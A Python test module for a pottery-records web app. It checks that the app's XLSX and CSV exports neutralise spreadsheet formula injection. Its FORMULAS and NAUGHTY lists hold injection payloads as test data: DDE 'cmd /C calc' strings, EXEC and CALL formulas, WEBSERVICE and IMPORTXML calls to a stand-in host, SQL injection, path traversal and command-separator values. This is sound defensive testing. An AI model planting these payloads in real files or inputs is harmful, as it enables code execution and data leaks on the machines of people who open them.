"""F2: texts that a spreadsheet program would compute, in every field that an export holds: no cell is a formula."""

import csv
import io
import re
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from random import Random
from unittest.mock import patch

from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from api import works
from api.intake import template
from api.intake.formulas import stated
from api.intake.piece_columns import PIECES
from ledger.craft.kinds.piece.parts import Clay, Note, Title
from ledger.craft.profile import zisha
from ledger.log.encoding import check_text
from tests.api.served import Served
from tests.assure.row import Figures, Row, counted, found
from tests.craft.kiln_world import MAKER, code_of

FORMULAS = (
    "=1+{n}", "=cmd|'/C calc {n}'!A0", "@SUM(A1:A{n})", "+{n}+cmd|' /C calc'!A0", "-{n}+3+cmd|' /C calc'!A0", "=A{n}",
    '=HYPERLINK("http://x.example/{n}","点此")', '=WEBSERVICE("http://x.example/{n}")', "＝1＋{n}",
    "＋{n}", "－{n}", "＠SUM({n})",
    '=IMPORTXML("http://x.example/{n}","//a")', "=DDE(\"cmd\";\"/C calc\";\"{n}\")", "-{n}", "+86{n}", "@zs{n}",
    "=R[-1]C*{n}", "=CHAR({n})&A1", "=+{n}", "=-{n}", "@@{n}", "==A{n}", "=\"{n}\"", "'={n}", "''={n}", "=({n})",
    "=SUM(1;{n})", "={n};", "=INDIRECT(\"A{n}\")", "=EXEC(\"calc{n}\")", "=CALL(\"k\",\"W\",\"{n}\")",
    "=REGISTER.ID(\"k\",{n})", "=RTD(\"x\",,{n})", "=FILES(\"{n}\")", "=INFO(\"{n}\")", "=CELL(\"a\",A{n})",
)  # fmt: skip
NAUGHTY = (
    "undefined{n}", "NULL{n}", "1E+{n}", "0x{n}", "1/{n}", "2026-9-{n}", "1,{n}", '"{n}', "'{n}", "\\{n}", "`{n}`",
    "%{n}d", "${{HOME}}{n}", "<script>{n}</script>", "&lt;{n}", "');DROP TABLE {n}--", "../../{n}", "{n};calc",
    "{n}|calc", "壶={n}", "（＝{n}）", "{n}=", "#REF!{n}", "#N/A{n}", "TRUE{n}", "Ω≈ç√{n}", "👾{n}", "𠜎{n}", "1;=A{n}",
    '1","=A{n}',
)  # fmt: skip
TEXTS = FORMULAS + NAUGHTY
EACH = 5
_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s/>]")
Book = Callable[[list[str]], Iterator[tuple[str, bytes]]]


def text(random: Random, number: int) -> str:
    """Return a text that a statement may hold, unlike any other."""
    return check_text(TEXTS[number % len(TEXTS)].format(n=random.randrange(10**3, 10**6)), 60)


def registered(studio: Served, texts: list[str]) -> Iterator[tuple[str, bytes]]:
    """Register pieces that bear the texts; yield the files that the maker is given."""
    for number, at in enumerate(range(0, len(texts), EACH), 1):
        zh, en, clay, note, note_en = (*texts[at : at + EACH], *("示例",) * EACH)[:EACH]
        piece = studio.piece(
            MAKER, number=number, title=Title(zh=zh, en=en), clay=Clay(group="zini", name=clay[:40].rstrip()),
            note=Note(zh=note, en=note_en),
        )  # fmt: skip
        studio.register(piece)
    for kind in ("xlsx", "csv"):
        got = studio.get(f"/api/v1/people/{MAKER}/pieces.{kind}")
        assert got.status_code == 200, got.text
        yield kind, got.content
    lists = tuple({"title": each, "note": each, "maker": each, "code": code_of(1)} for each in texts)
    yield "xlsx", template.write_workbook(PIECES, lists, zisha())


def formulas(kind: str, data: bytes) -> tuple[list[str], set[str]]:
    """Return the cells that a program would compute, and all texts with the apostrophe off."""
    if kind == "csv":
        cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
        return [cell for cell in cells if _computed(cell)], {stated(cell) for cell in cells}
    bad, seen = [], set[str]()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        bad += [name for name in archive.namelist() if "sheet" in name and _ELEMENT.search(archive.read(name))]
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        assert isinstance(sheet, Worksheet)
        for row in sheet.iter_rows():
            bad += [str(cell.value) for cell in row if cell.data_type == "f"]
            # Saved as CSV by whoever opens it, it is still none.
            bad += [cell.value for cell in row if isinstance(cell.value, str) and _computed(cell.value)]
            seen |= {stated(str(cell.value)) for cell in row}
    return bad, seen


def _computed(cell: str) -> bool:
    """Report whether some program would compute the text: OWASP's starts, blanks before them taken off."""
    return cell[:1] in set("\t\r\n") or cell.strip(" \u3000")[:1] in set("=+-@＝＋－＠")


def exports(count: int, random: Random) -> Figures:
    """Export the texts: every one stands there, and no cell is a formula."""
    texts = [text(random, number) for number in counted(count)]
    cells = 0
    with tempfile.TemporaryDirectory() as name, Served(Path(name) / "studio") as studio:
        for kind, data in registered(studio, texts):
            bad, seen = formulas(kind, data)
            assert not bad, f"a formula in {kind}: {bad[0]}"
            missing = [each for each in texts if not {each, each[:40].rstrip()} & seen]
            assert not missing, f"not in the {kind}: {missing[0]}"
            cells += len(seen)
    return {"texts": count, "of them formulas": sum(map(_computed, texts)), "cells": cells, "formula cells": 0}


def _control(random: Random) -> str:
    """Plant both faults: no apostrophe, and cells whose type the library guesses."""
    with patch.object(works, "_safe", lambda cell: cell):
        first = found(lambda: exports(6, random))

    def guessed(sheet: Worksheet, row: int, column: int, value: str) -> None:
        if value:
            sheet.cell(row, column, value)

    with patch.object(template, "_put", guessed):
        return f"{first}; {found(lambda: exports(6, random))}"


ROWS = (
    Row(
        name="F2", claim="no cell of an export is a formula, whatever stands in it", unit="texts",
        small=70, full=500, run=exports, control=_control,
    ),
)  # fmt: skip
